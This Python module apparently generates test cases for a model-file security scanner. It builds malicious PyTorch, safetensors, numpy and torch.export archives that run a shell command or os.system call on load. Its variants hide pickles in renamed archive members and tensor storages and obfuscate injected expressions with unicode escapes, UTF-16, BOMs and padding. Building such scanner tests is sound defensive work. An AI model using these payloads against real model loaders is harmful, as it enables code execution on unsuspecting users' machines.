"""Pickles and programs in odd members of PyTorch's archives."""
import io
import json
import pickle
import zipfile

import torch

from ..registry import Attack, SHELL, kind


class Runs:
    def __reduce__(self):
        import os
        return os.system, (SHELL,)


DATA = pickle.dumps(Runs(), 2)


def saved(value):
    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer.getvalue()


def changed(archive, change):
    with zipfile.ZipFile(io.BytesIO(archive)) as source:
        members = [(name, source.read(name)) for name in source.namelist()]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w') as target:
        for name, data in change(members):
            target.writestr(name, data)
    return buffer.getvalue()


@kind('torch: data.pkl under names that its reader takes for it')
def names():
    archive = saved({'w': torch.zeros(3)})
    for spelt in ('DATA.PKL', 'Data.Pkl', 'data.PKL'):
        def change(members):
            for name, data in members:
                yield (name.replace('data.pkl', spelt), DATA) if name.endswith('data.pkl') else (name, data)
        yield Attack('m.pt', changed(archive, change), loader='torch')
        def both(members):
            for name, data in members:
                if name.endswith('data.pkl'):
                    yield name.replace('data.pkl', spelt), DATA
                yield name, data
        yield Attack('m.pt', changed(archive, both), loader='torch')
    yield Attack('m.pt', b'\0' * 64 + changed(archive, lambda members: [(n, DATA if n.endswith('data.pkl') else d) for n, d in members]), loader='torch')


@kind('torch: storages that hold pickles')
def storages():
    bytes_ = torch.frombuffer(bytearray(pickle.dumps(Runs(), 4)), dtype=torch.uint8)
    for value in (bytes_, torch.cat([torch.zeros(77, dtype=torch.uint8), bytes_]), torch.nn.functional.pad(bytes_, (0, -len(bytes_) % 8)).view(torch.float64)):
        start = 77 if value[:1].tolist() == [0] and value.dtype == torch.uint8 else 0
        yield Attack('m.pt', saved({'state': value}), loader=f'import torch, pickle\nt = torch.load(path)["state"]\npickle.loads(t.numpy().tobytes()[{start}:])')
        buffer = io.BytesIO()
        torch.save({'state': value}, buffer, _use_new_zipfile_serialization=False)
        yield Attack('m.pt', buffer.getvalue(), loader=f'import torch, pickle\nt = torch.load(path)["state"]\npickle.loads(t.numpy().tobytes()[{start}:])')
    from safetensors.torch import save
    yield Attack('m.safetensors', save({'state': bytes_}), loader='import pickle\nfrom safetensors.numpy import load_file\npickle.loads(load_file(path)["state"].tobytes())')
    import numpy
    for array in (bytes_.numpy(), bytes_.numpy().astype('i8')):
        buffer = io.BytesIO()
        numpy.save(buffer, array)
        yield Attack('m.npy', buffer.getvalue(), loader='import numpy, pickle\npickle.loads(bytes(numpy.load(path).astype("u1")))')
        buffer = io.BytesIO()
        numpy.savez_compressed(buffer, a=array)
        yield Attack('m.npz', buffer.getvalue(), loader='import numpy, pickle\npickle.loads(bytes(numpy.load(path)["a"].astype("u1")))')


class Half(torch.nn.Module):
    def forward(self, x):
        return x * 2


@kind('torch.export: programs and payloads of the archive')
def exported():
    program = torch.export.export(Half(), (torch.zeros(2, 3),), dynamic_shapes=({0: torch.export.Dim('n', min=2, max=8)},))
    buffer = io.BytesIO()
    torch.export.save(program, buffer)
    archive = buffer.getvalue()
    with zipfile.ZipFile(io.BytesIO(archive)) as source:
        listing = source.namelist()
    command = "__import__('os').system('touch $MODELGATE_MARKER')"

    def edited(data, encode):
        text = data.decode()
        root = json.loads(text)

        def visit(value):
            if isinstance(value, dict):
                for key, item in value.items():
                    if key == 'expr_str':
                        value[key] = command
                    else:
                        visit(item)
            elif isinstance(value, list):
                for item in value:
                    visit(item)
        visit(root)
        return encode(root)
    encoders = {
        'plain': lambda root: json.dumps(root).encode(),
        'escaped': lambda root: json.dumps(root).replace('expr_str', '\\u0065xpr_str').replace('graph_module', 'graph\\u005fmodule').encode(),
        'utf16': lambda root: json.dumps(root).encode('utf-16'),
        'bom': lambda root: json.dumps(root).encode('utf-8-sig'),
        'blanks': lambda root: (' ' * 5000 + json.dumps(root)).encode(),
        'split': lambda root: json.dumps(root).replace('__import__', '__imp\\u006frt__').encode(),
    }
    for encode in encoders.values():
        yield Attack('m.pt2', changed(archive, lambda members: [(n, edited(d, encode) if '/models/' in n else d) for n, d in members]), loader='torch-export')
    for place in [name for name in listing if name.endswith('.pt') or 'sample_inputs' in name or 'constants' in name or 'weights' in name]:
        for payload in (DATA, saved(Runs())):
            yield Attack('m.pt2', changed(archive, lambda members: [(n, payload if n == place else d) for n, d in members]), loader='torch-export')


@kind('torch.package: modules and pickles')
def packaged():
    from torch.package import PackageExporter
    for source in (f'import os\nos.system(\'{SHELL}\')', f'import sys\nsys.modules["os"].system(\'{SHELL}\')'):
        buffer = io.BytesIO()
        with PackageExporter(buffer) as exporter:
            exporter.extern(['os', 'sys'])
            exporter.save_source_string('m', source)
            exporter.save_text('m', 'n.txt', 'x')
        yield Attack('m.pt', buffer.getvalue(), loader='import torch.package\ntorch.package.PackageImporter(path).import_module("m")')
    buffer = io.BytesIO()
    with PackageExporter(buffer) as exporter:
        exporter.save_binary('m', 'm.pkl', DATA)
    for kind_ in ('text', 'binary'):
        yield Attack('m.pt', buffer.getvalue(), loader='torch-package')


@kind('torchscript: operators that write files')
def scripted():
    class Saves(torch.nn.Module):
        def forward(self, x: torch.Tensor):
            torch.save(x, 'out.ran')
            return x
    try:
        module = torch.jit.script(Saves())
    except Exception:
        return
    buffer = io.BytesIO()
    torch.jit.save(module, buffer)
    yield Attack('m.pt', buffer.getvalue(), loader='import torch, os\nm = torch.jit.load(path); m(torch.zeros(2))\nif os.path.exists("out.ran"): os.system(\'' + SHELL + '\')')
